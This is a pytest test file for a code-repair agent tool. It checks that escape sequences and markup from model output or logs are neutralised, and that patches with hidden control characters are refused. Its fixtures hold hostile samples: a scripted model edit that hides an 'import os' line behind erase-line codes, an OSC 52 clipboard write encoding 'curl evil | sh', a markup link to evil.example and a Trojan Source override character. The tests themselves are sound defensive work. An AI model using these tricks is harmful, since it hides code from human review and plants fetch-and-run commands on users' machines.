"""Issue 16.1: what a terminal shows is what is applied. Escape sequences, OSC title/clipboard
writes and Rich markup from a model, a log, a file or a check never reach the terminal as
such, and a patch holding control characters is flagged and never applied without
--allow-control-chars."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from remediate.cli import app
from tests.conftest import needs_bwrap
from tests.helpers import script, tool_use

OLD = "return money.round_money(self.discounted() * self.tax_rate)"
NEW = "return money.round_currency(self.discounted() * self.tax_rate)"
# Erase the line and move up: on a terminal the hidden import vanishes from the shown patch.
HIDE = "\x1b[2K\x1b[1A\x1b[2K"
HIDDEN_CODE = f"{NEW}\n        import os  # {HIDE}"
OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
MARKUP = "[link=https://evil.example]see docs[/link] [red on white]ALERT[/] :thumbs_up:"
# Bytes that must never reach a terminal: ESC, BEL, CSI (C1), and \r outside a CRLF.
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\x9d")

CONTROLS = [
    ("\x1b[2K", "\\x1b[2K"),
    (OSC_TITLE, "\\x1b]0;pwned\\x07"),
    ("a\rb", "a\\rb"),
    ("a\bb", "a\\x08b"),
    ("\x9b2J", "\\x9b2J"),
    ("\x7f", "\\x7f"),
    ("\x00", "\\x00"),
    ("x\u202ey", "x\\u202ey"),  # right-to-left override (Trojan Source)
    ("x\x85y", "x\\x85y"),
    ("keep\ttabs\nand lines\r\n", "keep\ttabs\nand lines\r\n"),
]


@pytest.mark.parametrize(("raw", "shown"), CONTROLS, ids=[repr(c[0]) for c in CONTROLS])
def test_visible_makes_control_characters_visible(raw: str, shown: str) -> None:
    from remediate.terminal import visible

    assert visible(raw) == shown


def test_hidden_lines_of_a_patch_are_found() -> None:
    from remediate.terminal import control_character_lines

    patch = "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1,2 @@\n a\r\n+b\tc\r\n+d\x1b[1A\n"
    assert control_character_lines(patch) == ["+d\\x1b[1A"]


def _cassette(tmp_path: Path) -> Path:
    cassette = script(
        [tool_use(1, f"read_file{OSC_TITLE}", {"path": "x"})],
        [tool_use(2, "edit_file", {"path": "src/invoicing/invoice.py", "old_text": OLD, "new_text": HIDDEN_CODE})],
        [tool_use(3, "run_check", {})],
        [
            tool_use(
                4,
                "finish",
                {"root_cause": f"renamed helper {MARKUP}{OSC_CLIPBOARD}", "summary": "s", "fixed": True},
            )
        ],
    )
    path = tmp_path / "cassette.json"
    cassette.dump(path)
    return path


def _fix(fixture: Path, tmp_path: Path, *extra: str) -> tuple[int, str, Path, Path]:
    source = tmp_path / "proj"
    shutil.copytree(fixture / "src", source)
    out = tmp_path / "out"
    args = ["fix", "--source", str(source), "--log", str(fixture / "ci.log"), "--check", "python -m pytest -q"]
    args += ["--cassette", str(_cassette(tmp_path)), "--out", str(out), "--passes", "1", "--state", "off", *extra]
    result = CliRunner().invoke(app, args)
    return result.exit_code, result.output, source, out


@needs_bwrap
def test_the_terminal_never_receives_escape_sequences_or_markup(renamed_fixture: Path, tmp_path: Path) -> None:
    code, output, source, out = _fix(renamed_fixture, tmp_path, "--apply")
    report = json.loads((out / "report.json").read_text())
    assert report["status"] == "fixed", output
    for byte in FORBIDDEN:
        assert byte not in output, f"{byte!r} reached the terminal"
    # The hidden line is shown, its escape codes visible; the markup is shown as text.
    assert "+        import os  # \\x1b[2K\\x1b[1A\\x1b[2K" in output
    assert "[link=https://evil.example]" in output.replace("\n", "")
    assert ":thumbs_up:" in output.replace("\n", "")
    # The patch is flagged in the report and not applied: exit 12 (refused), the source untouched.
    assert any(e["kind"] == "control_characters" for e in report["guard_events"]), report["guard_events"]
    assert code == 12, output
    assert "--allow-control-chars" in output
    assert "import os" not in (source / "src/invoicing/invoice.py").read_text()
    trace = CliRunner().invoke(app, ["trace", str(out)])
    assert trace.exit_code == 0, trace.output
    for byte in FORBIDDEN:
        assert byte not in trace.output, f"{byte!r} reached the terminal through `remediate trace`"


@needs_bwrap
def test_allow_control_chars_applies_the_reviewed_patch(renamed_fixture: Path, tmp_path: Path) -> None:
    code, output, source, _ = _fix(renamed_fixture, tmp_path, "--apply", "--allow-control-chars")
    assert code == 0, output
    assert HIDE in (source / "src/invoicing/invoice.py").read_text()
